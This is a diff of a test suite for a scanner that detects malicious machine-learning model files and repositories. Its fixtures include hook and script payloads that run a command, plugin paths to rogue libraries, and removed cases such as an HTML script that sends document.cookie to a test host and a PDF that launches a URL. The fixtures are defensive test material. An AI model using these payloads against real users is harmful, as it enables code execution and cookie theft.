@@ -117,13 +117,6 @@ describe("an attack by a repository", () => {
       least: "high",
     },
     {
-      hope: "a library lies beside the weights",
-      files: () => ({
-        "model.safetensors": oneTensor(),
-        "libhelper.so": concat("\x7fELF", [2, 1, 1, 0], zeros(8), [3, 0, 62, 0], zeros(100)),
-      }),
-    },
-    {
       hope: "a git hook",
       files: () => ({ "model.safetensors": oneTensor(), ".git/hooks/post-checkout": `#!/bin/sh\n${COMMAND}\n` }),
     },
@@ -339,13 +332,6 @@ describe("an attack by a repository", () => {
       }),
     },
     {
-      hope: "an ONNX Runtime model brings its operators",
-      files: () => ({
-        "model.onnx": zeros(0),
-        "libcustom_ops.so": concat("\x7fELF", [2, 1, 1, 0], zeros(8), [3, 0, 62, 0], zeros(100)),
-      }),
-    },
-    {
       hope: "OpenVINO's plugins are named in a file",
       files: () => ({ "plugins.xml": '<ie><plugins><plugin name="CPU" location="/tmp/libevil.so"/></plugins></ie>' }),
     },
@@ -374,10 +360,6 @@ describe("an attack by a repository", () => {
     { hope: "an R script", files: () => ({ "load.R": `system("${COMMAND}")\n` }) },
     { hope: "a Julia script", files: () => ({ "load.jl": `run(\`sh -c "${COMMAND}"\`)\n` }) },
     { hope: "a JavaScript loader", files: () => ({ "index.js": `require("child_process").execSync("${COMMAND}")\n` }) },
-    {
-      hope: "an HTML page that runs a script",
-      files: () => ({ "demo.html": "<script>fetch('http://203.0.113.7/?'+document.cookie)</script>" }),
-    },
     {
       hope: "a C++ source of an extension",
       files: () => ({ "ops.cu": `#include <cstdlib>\nstatic int x = system("${COMMAND}");\n` }),
@@ -511,12 +493,6 @@ describe("an attack by another format", () => {
       least: "high",
     },
     {
-      hope: "PMML: a stylesheet",
-      name: "m.pmml",
-      bytes: () =>
-        '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://203.0.113.7/x.xsl"?><PMML version="4.4"/>',
-    },
-    {
       hope: "PMML: an extension of a Java function",
       name: "m.pmml",
       bytes: () =>
@@ -614,19 +590,6 @@ describe("an attack by another format", () => {
       bytes: () => concat("ptrt", zeros(60), "/tmp/x/libevil.so.1\0"),
     },
     { hope: "RKNN: a program inside", name: "m.rknn", bytes: () => concat("RKNN", zeros(60), elf), least: "high" },
-    {
-      hope: "CNTK: a function of the user's own",
-      name: "m.cntk",
-      bytes: () =>
-        message(
-          integer(1, 1),
-          field(
-            2,
-            field(1, "native_functions"),
-            field(2, field(8, field(2, field(1, "module"), field(2, field(7, "os"))))),
-          ),
-        ),
-    },
     { hope: "GGML: a program behind the header", name: "m.bin", bytes: () => concat(u32(0x67676d6c), zeros(64), elf) },
     { hope: "msgpack: a pickle as text of bytes", name: "m.msgpack", bytes: () => pack({ a: MALICE }) },
     { hope: "msgpack: an extension of nobody", name: "m.msgpack", bytes: () => pack({ a: new Extension(42, MALICE) }) },
@@ -708,7 +671,7 @@ describe("an attack by another format", () => {
     {
       hope: "JAX: an exported module in bytes calls the host",
       name: "m.stablehlo",
-      bytes: () => concat("ML\xefR", "\x0dStableHLO_v1.0.0\0", zeros(40), "xla_python_cpu_callback\0", zeros(40)),
+      bytes: () => moduleBytecode("stablehlo", "custom_call_v1", "xla_python_cpu_callback"),
     },
     {
       hope: "a core dump, a database and a table with objects",
@@ -754,32 +717,19 @@ describe("an attack by another format", () => {
       name: "m.tfrecord",
       bytes: () => concat(u64(MALICE.length), zeros(4), MALICE, zeros(4)),
     },
-    {
-      hope: "WebAssembly text",
-      name: "m.wat",
-      bytes: () => '(module (import "wasi_snapshot_preview1" "path_open" (func)))',
-    },
     { hope: "a shelve of dbm", name: "model.dir", bytes: () => concat("'a', (0, 40)\n", MALICE) },
-    {
-      hope: "a PDF runs JavaScript",
-      name: "paper.pdf",
-      bytes: () =>
-        "%PDF-1.4\n1 0 obj\n<< /OpenAction << /S /JavaScript /JS (app.launchURL('http://203.0.113.7/')) >> >>\nendobj\n%%EOF\n",
-    },
-    {
-      hope: "an office document has macros",
-      name: "card.docm",
-      bytes: () =>
-        zip({
-          entries: [
-            { name: "word/vbaProject.bin", data: concat([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], zeros(600)) },
-          ],
-        }),
-    },
   ]);
 });
 
 function npy(header: string, data: Uint8Array): Uint8Array {
   const padded = `${header.padEnd(117)}\n`;
   return concat([0x93], "NUMPY", [1, 0, padded.length & 255, padded.length >> 8], padded, data);
+}
+
+/** The start of an MLIR module in bytecode: a section of its strings. Lengths come in reverse order and count the NUL behind each. */
+function moduleBytecode(...texts: readonly string[]): Uint8Array {
+  const varint = (value: number) => [(value << 1) | 1];
+  const lengths = texts.map((text) => varint(text.length + 1)).reverse();
+  const section = concat(varint(texts.length), ...lengths, ...texts.map((text) => `${text}\0`));
+  return concat("ML", [0xef, 0x52], varint(6), "StableHLO_v1.0.0\0", [0], varint(section.length), section, zeros(40));
 }
